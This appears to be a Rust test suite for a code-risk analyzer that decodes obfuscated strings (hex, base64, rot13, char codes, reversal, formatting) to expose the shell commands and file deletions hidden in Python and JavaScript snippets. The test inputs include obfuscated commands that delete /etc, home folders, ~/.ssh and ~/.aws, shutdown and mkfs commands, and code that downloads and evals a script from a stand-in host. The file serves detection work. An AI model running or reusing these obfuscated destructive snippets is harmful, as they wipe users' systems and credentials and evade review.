//! Constant folding before matching: strings built from constants, decoded from hex, base64,
//! rot13 or char codes, reversed, joined or formatted are read as the text they build; module
//! and member names built that way resolve; home-directory constructors are `~`; temporary
//! directories the code made are cleanup. Each mechanism has its own varied examples.

use riskgate_analyzers::code::{Analysis, CodeAction, RiskAssessor};
use riskgate_model::{Language, RiskLevel};

fn py(code: &str) -> RiskLevel {
    RiskAssessor::new().assess(&CodeAction::python(code)).level
}

fn js(code: &str) -> RiskLevel {
    RiskAssessor::new().assess(&CodeAction::js(code)).level
}

/// The shell commands the code runs, as text.
fn commands(code: &str, lang: Language) -> Vec<String> {
    Analysis::new(code, lang)
        .commands
        .into_iter()
        .map(|c| c.text)
        .collect()
}

fn calls(code: &str, lang: Language) -> Vec<String> {
    Analysis::new(code, lang)
        .calls
        .into_iter()
        .map(|c| c.name)
        .collect()
}

#[test]
fn python_decoders_fold_before_the_sink() {
    let cases = [
        // hex
        (
            "import os\nos.system(bytes.fromhex('6c73202d6c61').decode())",
            "ls -la",
        ),
        // base64 (utf-8 bytes decoded)
        (
            "import base64, subprocess\nsubprocess.call(base64.b64decode('ZGYgLWg=').decode(), shell=True)",
            "df -h",
        ),
        // rot13
        (
            "import os, codecs\nos.system(codecs.decode('jubnzv', 'rot_13'))",
            "whoami",
        ),
        // reversal
        ("import os\nos.system('etad'[::-1])", "date"),
        // join of a list, and of chr() over codes
        ("import os\nos.system(''.join(['un', 'am', 'e']))", "uname"),
        (
            "import os\nos.system(''.join(chr(c) for c in [112, 119, 100]))",
            "pwd",
        ),
        ("import os\nos.system(''.join(map(chr, [105, 100])))", "id"),
        ("import os\nos.system(chr(108) + chr(115))", "ls"),
        (
            "import os\nos.system(bytearray.fromhex('6964').decode('utf-8'))",
            "id",
        ),
    ];
    for (code, want) in cases {
        assert_eq!(commands(code, Language::Python), [want], "{code}");
    }
}

#[test]
fn python_formatting_with_constants_folds() {
    let cases = [
        (
            "import os\nd = '/srv/x'\nos.system(f'rm -rf {d}')",
            "rm -rf /srv/x",
        ),
        (
            "import os\nos.system('%s -rf %s' % ('rm', '/var/cache/app'))",
            "rm -rf /var/cache/app",
        ),
        (
            "import os\nos.system('{} -rf {}'.format('rm', '/opt/old'))",
            "rm -rf /opt/old",
        ),
        (
            "import os\nos.system('{1} {0}'.format('/tmp/x', 'ls'))",
            "ls /tmp/x",
        ),
        (
            "import os\nflag = '-rf'\nos.system(f\"rm {flag} {'/data'}\")",
            "rm -rf /data",
        ),
    ];
    for (code, want) in cases {
        assert_eq!(commands(code, Language::Python), [want], "{code}");
    }
    // a run-time value stays unknown
    assert_eq!(
        commands(
            "import os, sys\nos.system(f'rm -rf {sys.argv[1]}')",
            Language::Python
        ),
        ["rm -rf $ARG"]
    );
}

#[test]
fn folded_python_commands_are_rated_by_what_they_run() {
    let high = [
        "import os\nos.system(bytes.fromhex('726d202d7266202f686f6d65').decode())",
        "import os, codecs\nos.system(codecs.decode('ez -es /ine/yvo', 'rot13'))",
        "import os\nos.system('emoh/ fr- mr'[::-1])",
        "import subprocess\nsubprocess.run(''.join(['r', 'm', ' -rf', ' /etc']), shell=True)",
        "import os\nos.system('{} {} {}'.format('rm', '-rf', '/usr'))",
        "exec(bytes.fromhex('696d706f72742073687574696c3b73687574696c2e726d7472656528272f6574632729').decode())",
    ];
    for code in high {
        assert!(py(code) >= RiskLevel::High, "{code}");
    }
    let low = [
        "print(bytes.fromhex('68656c6c6f').decode())",
        "print('dlrow'[::-1], ''.join(['a', 'b']))",
        "import codecs\nprint(codecs.decode('uryyb', 'rot13'))",
        "import os\nos.system('{} {}'.format('ls', '-la'))",
        "name = 'x'\nprint(f'hello {name}')",
    ];
    for code in low {
        assert!(py(code) <= RiskLevel::Medium, "{code}");
    }
}

#[test]
fn js_module_and_member_names_fold() {
    let cases = [
        "const m = require('chi' + 'ld_process'); m['exec' + 'Sync']('ls')",
        "require(['child', 'process'].join('_')).execSync('ls')",
        "const c = require(`child_${'process'}`); c.execSync('ls')",
        "require('child_process')[String.fromCharCode(101,120,101,99,83,121,110,99)]('ls')",
        "const k = 'exec' + 'Sync'; require('child_process')[k]('ls')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw=='))['execSync']('ls')",
        "const cp = require('child_process'); cp['execS' + 'ync'.split('').reverse().reverse().join('')]('ls')",
    ];
    for code in cases {
        assert!(
            calls(code, Language::Js)
                .iter()
                .any(|n| n == "child_process.execSync"),
            "{code}: {:?}",
            calls(code, Language::Js)
        );
        assert_eq!(commands(code, Language::Js), ["ls"], "{code}");
    }
    // a plain item assignment is not a call by a member name
    let a = Analysis::new("process.env['PATH'] = '/x'", Language::Js);
    assert!(a.assignments.iter().any(|x| x.target == "process.env[]"));
}

#[test]
fn js_decoders_and_home_fold() {
    let cases = [
        (
            "require('child_process').execSync(Buffer.from('d2hvYW1p', 'base64').toString())",
            "whoami",
        ),
        (
            "require('child_process').execSync(Buffer.from('6964', 'hex').toString('utf8'))",
            "id",
        ),
        (
            "const { execSync } = require('child_process'); execSync(atob('dW5hbWUgLWE='))",
            "uname -a",
        ),
        (
            "require('child_process').execSync(String.fromCharCode(108, 115))",
            "ls",
        ),
        (
            "require('child_process').execSync('etad'.split('').reverse().join(''))",
            "date",
        ),
        (
            "require('child_process').execSync('ls ' + process.env.HOME)",
            "ls ~",
        ),
        (
            "const os = require('os'); require('child_process').execSync(`du -sh ${os.homedir()}`)",
            "du -sh ~",
        ),
    ];
    for (code, want) in cases {
        assert_eq!(commands(code, Language::Js), [want], "{code}");
    }
    assert!(
        js(
            "const cp = require('child' + '_process'); cp['exec' + 'Sync']('rm -rf ' + process.env.HOME)"
        ) >= RiskLevel::High
    );
    assert!(
        js("console.log(Buffer.from('aGk=', 'base64').toString(), process.env.HOME)")
            <= RiskLevel::Low
    );
}

#[test]
fn home_directory_constructors_in_deletions() {
    let high_py = [
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())",
        "import shutil, os\nshutil.rmtree(os.path.join(os.environ['HOME'], '.gnupg'))",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.ssh'))",
        "import os, shutil\nshutil.rmtree(os.getenv('HOME'))",
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home().joinpath('.config'))",
    ];
    for code in high_py {
        assert!(py(code) >= RiskLevel::High, "{code}");
    }
    let high_js = [
        "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })",
        "const fs = require('fs'), path = require('path'), os = require('os');\nfs.rmSync(path.join(os.homedir(), '.aws'), { recursive: true })",
        "require('fs').rmSync(process.env.HOME, { recursive: true })",
        "require('fs').rmSync(process.env['HOME'] + '/.kube', { recursive: true, force: true })",
        "import fs from 'fs'; import os from 'os';\nfs.rmSync(`${os.homedir()}/.npmrc`)",
    ];
    for code in high_js {
        assert!(js(code) >= RiskLevel::High, "{code}");
    }
    // reading or printing them stays low
    assert!(py("import os\nprint(os.path.expanduser('~'))") <= RiskLevel::Low);
    assert!(js("console.log(require('os').homedir())") <= RiskLevel::Low);
}

#[test]
fn temporary_directories_the_code_made_are_cleanup() {
    let low_py = [
        "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
        "import tempfile, shutil, os\nwork = tempfile.mkdtemp(prefix='build-')\nprint(os.listdir(work))\nshutil.rmtree(work)",
        "import shutil\nfrom tempfile import mkdtemp\nt = mkdtemp()\nshutil.rmtree(t, ignore_errors=True)",
        "import shutil, tempfile\nwith tempfile.TemporaryDirectory() as d:\n    shutil.rmtree(d)",
    ];
    for code in low_py {
        assert!(py(code) <= RiskLevel::Low, "{code}");
    }
    let low_js = [
        "const fs = require('fs'), os = require('os'), path = require('path');\nconst d = fs.mkdtempSync(path.join(os.tmpdir(), 't-'));\nfs.rmSync(d, { recursive: true, force: true });",
        "import { mkdtempSync, rmSync } from 'node:fs';\nconst dir = mkdtempSync('/tmp/x-');\nrmSync(dir, { recursive: true });",
    ];
    for code in low_js {
        assert!(js(code) <= RiskLevel::Low, "{code}");
    }
    // literal paths through variables keep their level
    let high = [
        "import shutil\np = '/etc'\nshutil.rmtree(p)",
        "import shutil\ntarget = '/var/lib/mysql'\nshutil.rmtree(target)",
        "import shutil, tempfile\nd = tempfile.mkdtemp()\nd = '/srv'\nshutil.rmtree(d)",
        "import shutil, tempfile\nshutil.rmtree(tempfile.gettempdir())",
    ];
    for code in high {
        assert!(py(code) >= RiskLevel::High, "{code}");
    }
    assert!(
        js("const t = '/var/www';\nrequire('fs').rmSync(t, { recursive: true, force: true })")
            >= RiskLevel::High
    );
}

#[test]
fn writes_into_a_shell_the_code_started_are_commands() {
    let cases = [
        (
            "import os\np = os.popen('sh', 'w')\np.write('rm -rf ~/projects\\n')\np.close()",
            Language::Python,
            "rm -rf ~/projects",
        ),
        (
            "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'shutdown -h now\\n')",
            Language::Python,
            "shutdown -h now",
        ),
        (
            "import subprocess\nsubprocess.run(['/bin/sh'], input='kill -9 -1', text=True)",
            Language::Python,
            "kill -9 -1",
        ),
        (
            "import subprocess\nsh = subprocess.Popen('bash', stdin=subprocess.PIPE, shell=False)\nsh.stdin.write(b'mkfs.ext4 /dev/sdb')",
            Language::Python,
            "mkfs.ext4 /dev/sdb",
        ),
        (
            "const { spawn } = require('child_process');\nconst sh = spawn('/bin/sh');\nsh.stdin.write('rm -rf /srv\\n');\nsh.stdin.end();",
            Language::Js,
            "rm -rf /srv",
        ),
    ];
    for (code, lang, want) in cases {
        let got = commands(code, lang);
        assert!(got.iter().any(|c| c == want), "{code}: {got:?}");
    }
    // a program that is not a shell, or a shell given a script, reads data
    for code in [
        "import subprocess\nsubprocess.run(['sort'], input='rm -rf /')",
        "import subprocess\nsubprocess.run(['bash', 'build.sh'], input='yes')",
    ] {
        let got = commands(code, Language::Python);
        assert!(
            got.iter().all(|c| c != "rm -rf /" && c != "yes"),
            "{code}: {got:?}"
        );
    }
}

#[test]
fn names_changed_in_place_are_not_constants() {
    // `b += c` in a callback: the evaluated `b` is what was received, not ''
    let code = "require('https').get('https://x.example/p.js', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) })";
    assert!(js(code) >= RiskLevel::High);
    let code = "const http = require('http');\nlet body = '';\nhttp.get('http://198.51.100.3/x', res => { res.on('data', d => { body += d }); res.on('end', () => new Function(body)()) })";
    assert!(js(code) >= RiskLevel::High);
    assert!(py("import os\ncmd = 'ls'\ncmd += ' -la'\nos.system(cmd)") <= RiskLevel::Medium);
}

#[test]
fn folding_is_bounded() {
    // doubling through constants is cut at the bound: incomplete, never a huge string
    let mut code = String::from("a = 'xxxxxxxxxxxxxxxx'\n");
    let mut prev = "a".to_string();
    for i in 0..40 {
        let name = format!("v{i}");
        code.push_str(&format!("{name} = {prev} + {prev}\n"));
        prev = name;
    }
    code.push_str(&format!("import os\nos.system({prev})\n"));
    let a = Analysis::new(&code, Language::Python);
    assert!(a.incomplete);
    assert!(a.commands.iter().all(|c| c.text.len() <= 70_000));
    // nested failing folds do not blow up (each level would otherwise fold twice)
    let mut nested = String::from("'a'");
    for _ in 0..30 {
        nested = format!("'a'.replace({nested}.upper(q), 'b')");
    }
    let code = format!("import os\nos.system({nested})");
    let a = Analysis::new(&code, Language::Python);
    assert_eq!(a.commands.len(), 1);
    // huge decoded output is not produced
    let big = "41".repeat(40_000);
    let a = Analysis::new(
        &format!("import os\nos.system(bytes.fromhex('{big}').decode())"),
        Language::Python,
    );
    assert!(a.incomplete);
}
